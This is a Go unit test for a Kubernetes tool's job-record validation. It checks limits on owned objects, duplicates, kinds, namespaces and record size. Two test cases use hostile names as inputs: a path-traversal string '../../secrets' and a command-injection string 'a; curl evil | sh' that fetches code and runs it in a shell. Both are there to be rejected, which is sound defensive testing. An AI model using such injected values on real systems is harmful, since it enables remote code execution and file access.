package resize

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	batchv1 "k8s.io/api/batch/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/gangctl/gangctl/pkg/gang"
)

// What could not be read again is refused before it is kept, and so before the job is deleted.
func TestSecret(t *testing.T) {
	of := func(apiVersion, kind, namespace string) *unstructured.Unstructured {
		u := &unstructured.Unstructured{Object: map[string]any{"apiVersion": apiVersion, "kind": kind}}
		u.SetNamespace(namespace)
		u.SetName("llama")
		return u
	}
	named := func(name string) *unstructured.Unstructured {
		u := of("v1", "Service", "team")
		u.SetName(name)
		return u
	}
	many := make([]*unstructured.Unstructured, maxOwned+1)
	for i := range many {
		many[i] = named(fmt.Sprintf("llama-%d", i))
	}
	reader := gang.JobReader{GroupKind: schema.GroupKind{Group: batchv1.GroupName, Kind: "Job"}}
	for name, tt := range map[string]struct {
		owned   []*unstructured.Unstructured
		message string
	}{
		"fine":                  {many[:maxOwned], ""},
		"too many":              {many, "the job owns 17 objects, at most 16 can be made again"},
		"another kind":          {[]*unstructured.Unstructured{of("v1", "Pod", "team")}, "object 1 "},
		"a name with a path":    {[]*unstructured.Unstructured{named("../../secrets")}, `has no name that an object can have: "../../secrets"`},
		"a name with a command": {[]*unstructured.Unstructured{named("a; curl evil | sh")}, "has no name"},
		"the same twice":        {[]*unstructured.Unstructured{named("a"), named("a")}, "object 2 that the job owns is there twice: Service a"},
		"another namespace":     {[]*unstructured.Unstructured{of("v1", "Service", "other")}, "object 1 "},
	} {
		t.Run(name, func(t *testing.T) {
			r := &Record{Deleted: "1", Job: of("batch/v1", "Job", "team"), Owned: tt.owned}
			m, err := r.Secret(reader)
			if (err == nil) != (tt.message == "") || err != nil && !strings.Contains(err.Error(), tt.message) {
				t.Fatalf("got %v", err)
			}
			if err != nil {
				return
			}
			m.Data[recordKey] = append(m.Data[recordKey], bytes.Repeat([]byte(" "), maxRecord)...)
			if _, err := ReadRecord(m, reader, "llama"); err == nil || !strings.Contains(err.Error(), "a record has at most") {
				t.Errorf("a record of any size: %v", err)
			}
			m.Type = "Opaque"
			if _, err := ReadRecord(m, reader, "llama"); err == nil {
				t.Error("a Secret of another type is taken for a record")
			}
		})
	}
}
